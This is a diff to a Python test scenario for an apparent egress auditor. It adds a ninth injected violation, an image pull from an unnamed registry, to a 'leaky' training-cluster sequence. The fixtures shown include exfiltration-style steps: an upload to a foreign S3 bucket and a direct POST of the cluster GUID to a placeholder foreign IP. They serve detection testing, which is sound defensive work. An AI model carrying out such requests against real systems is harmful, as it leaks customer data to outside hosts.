@@ -7,7 +7,7 @@ the worker image (ECR manifest, blobs redirected to the S3 layer bucket), the wo
 reading training data from and writing artifacts to the customer's bucket, and log
 lines that carry metadata only.
 
-`leaky` is the same sequence with eight violations injected where they would happen.
+`leaky` is the same sequence with nine violations injected where they would happen.
 Each injected step says what the auditor must find (`Expectation`), in the shared
 vocabulary: sensor observations and classifier labels.
 """
@@ -165,7 +165,7 @@ CLEAN: list[Step] = [
 ]
 
 
-# --- the eight violations of the leaky scenario, each placed after the step it follows ---
+# --- the nine violations of the leaky scenario, each placed after the step it follows ---
 
 LEAKS: list[tuple[str, Step]] = [
     ("agent-invites-job", Step(
@@ -179,6 +179,11 @@ LEAKS: list[tuple[str, Step]] = [
         expect=Expectation(
             violation="s3-foreign-bucket-put", sensor="proxy", destination="s3.amazonaws.com", method="PUT",
             description="An upload to somebody else's bucket through the allowed s3.amazonaws.com host."))),
+    ("node-manifest", Step(
+        id="leak-unnamed-registry-pull", actor="node", url="https://{other_registry}/v2/{repo}/manifests/{image_tag}",
+        headers={"Accept": "application/vnd.docker.distribution.manifest.v2+json"}, expect=Expectation(
+            violation="registry-not-named", sensor="proxy", observations=("registry-not-named",),
+            description="A node pulls an image manifest from a registry the agent's get_login answer did not name."))),
     ("worker-read-training-data", Step(
         id="leak-direct-ip", actor="intruder", method="POST", url="https://{foreign_ip}/v1/collect",
         route="direct", json_body={"agent": "{cluster_guid}", "seq": 1}, expect=Expectation(
